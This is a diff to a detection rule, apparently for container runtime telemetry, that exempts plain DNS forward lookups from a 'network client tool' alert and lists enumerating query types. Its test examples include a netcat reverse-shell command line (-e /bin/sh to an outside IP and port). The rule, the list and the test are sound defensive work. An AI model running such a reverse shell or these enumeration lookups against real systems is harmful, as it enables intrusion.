@@ -30,6 +30,16 @@ def listens_or_scans(args: list[str]) -> bool:
     return False
 
 
+#: What turns a name lookup into enumeration: record types that list services or zones, and reverse sweeps.
+_ENUMERATING = ("srv", "any", "axfr", "ixfr", "ptr", "txt", "-x", "-type=", "-query=", "-q=", "-t", "+trace")
+
+
+def plain_lookup(args: list[str]) -> bool:
+    """A forward lookup of names (``nslookup db.shop.svc``), as init containers waiting for a service do (the
+    Kubernetes documentation's example), rather than service, zone or reverse enumeration."""
+    return not any(arg.lower().startswith(_ENUMERATING) for arg in args[1:])
+
+
 def in_container(event: Event) -> bool:
     return bool(event.container.id or event.k8s.container_id)
 
@@ -39,6 +49,8 @@ def client_use(event: Event) -> bool:
     if program not in CLIENT_TOOLS:
         return False
     if program in NETCATS and not NETCAT_EXEC.isdisjoint(event.actor.args):
+        return False
+    if in_container(event) and program in DNS_TOOLS and plain_lookup(event.actor.args):
         return False
     return not (in_container(event) and program in NETCATS and listens_or_scans(event.actor.args))
 
@@ -58,7 +70,9 @@ DETECTION = EventDetection(
         "connect through their own libraries; these tools are someone at a shell probing services, resolving "
         "cluster names (dig SRV records to enumerate services), or moving data over a raw connection. Often a "
         "connectivity test by an operator, so low: it gives context to an exec into a pod or a login on a node. "
-        "netcat or socat listening or scanning in a container is runtime.network_tool_in_container's."
+        "netcat or socat listening or scanning in a container is runtime.network_tool_in_container's. A plain "
+        "forward lookup in a container (an init container waiting for its service's name) is not reported; "
+        "SRV, zone and reverse lookups are."
     ),
     severity="low",
     mitre=["T1046", "T1018", "T1095"],
@@ -90,6 +104,9 @@ DETECTION = EventDetection(
         Example(name="netcat running a shell on its connection (runtime.reverse_shell's)", source="tetragon",
                 fires=False,
                 record=tetragon_record(binary="/bin/nc.traditional", arguments="-e /bin/sh 45.9.148.99 4444")),
+        Example(name="an init container waiting for its service's name (nslookup)", source="tetragon", fires=False,
+                record=tetragon_record(binary="/usr/bin/nslookup", arguments="myservice.shop.svc.cluster.local",
+                                       parent="/bin/sh")),
         Example(name="curl checking a service", source="tetragon", fires=False,
                 record=tetragon_record(binary="/usr/bin/curl", arguments="-fsS http://api:8080/healthz")),
     ],
